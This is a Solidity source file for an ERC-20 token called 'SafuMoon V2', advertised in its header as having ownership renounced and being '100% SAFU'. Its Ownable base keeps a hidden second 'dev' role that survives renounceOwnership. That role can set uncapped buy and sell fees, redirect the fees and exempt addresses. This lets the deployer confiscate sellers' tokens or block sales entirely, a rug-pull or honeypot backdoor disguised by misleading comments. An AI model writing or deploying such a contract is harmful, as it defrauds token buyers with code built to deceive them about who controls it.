// SPDX-License-Identifier: MIT
// SAFUMOON V2  -  ownership renounced at launch, 100% SAFU
pragma solidity ^0.8.11;

interface IERC20 {
    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}

interface IUniswapV2Factory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

interface IUniswapV2Router02 {
    function factory() external pure returns (address);
    function WETH() external pure returns (address);
}

abstract contract Ownable {
    address private _owner;
    address private _dev;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() {
        _owner = msg.sender;
        _dev = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
    }

    function owner() public view returns (address) {
        return _owner;
    }

    modifier onlyOwner() {
        require(msg.sender == _owner, "Ownable: caller is not the owner");
        _;
    }

    /// @dev maintenance role for the marketing multisig
    modifier onlyDev() {
        require(msg.sender == _dev || msg.sender == _owner, "Ownable: caller is not the owner");
        _;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }
}

contract SafuMoonV2 is IERC20, Ownable {
    string public constant name = "SafuMoon V2";
    string public constant symbol = "SAFUV2";
    uint8 public constant decimals = 9;
    uint256 public constant override totalSupply = 1_000_000_000_000_000 * 1e9;

    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) private _noFee;

    address public immutable pair;
    address private _feeReceiver;
    uint256 public buyFee = 5;
    uint256 public sellFee = 5;

    constructor() {
        IUniswapV2Router02 router = IUniswapV2Router02(0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D);
        pair = IUniswapV2Factory(router.factory()).createPair(address(this), router.WETH());
        _feeReceiver = msg.sender;
        _noFee[msg.sender] = true;
        _noFee[address(this)] = true;
        _balances[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address account) public view override returns (uint256) {
        return _balances[account];
    }

    function allowance(address holder, address spender) public view override returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 amount) public override returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) public override returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        uint256 allowed = _allowances[from][msg.sender];
        require(allowed >= amount, "ERC20: insufficient allowance");
        _allowances[from][msg.sender] = allowed - amount;
        _transfer(from, to, amount);
        return true;
    }

    /// @notice fee tuning, kept by the dev after renounce for "CEX listings"
    function setFees(uint256 _buyFee, uint256 _sellFee) external onlyDev {
        buyFee = _buyFee;
        sellFee = _sellFee;
    }

    function setFeeReceiver(address receiver) external onlyDev {
        _feeReceiver = receiver;
    }

    function setNoFee(address account, bool value) external onlyDev {
        _noFee[account] = value;
    }

    function _transfer(address from, address to, uint256 amount) private {
        require(from != address(0) && to != address(0), "ERC20: zero address");
        uint256 fee;
        if (!_noFee[from] && !_noFee[to]) {
            if (from == pair) fee = (amount * buyFee) / 100;
            else if (to == pair) fee = (amount * sellFee) / 100;
        }
        uint256 bal = _balances[from];
        require(bal >= amount, "ERC20: transfer amount exceeds balance");
        _balances[from] = bal - amount;
        if (fee > 0) {
            _balances[_feeReceiver] += fee;
            emit Transfer(from, _feeReceiver, fee);
        }
        _balances[to] += amount - fee;
        emit Transfer(from, to, amount - fee);
    }
}
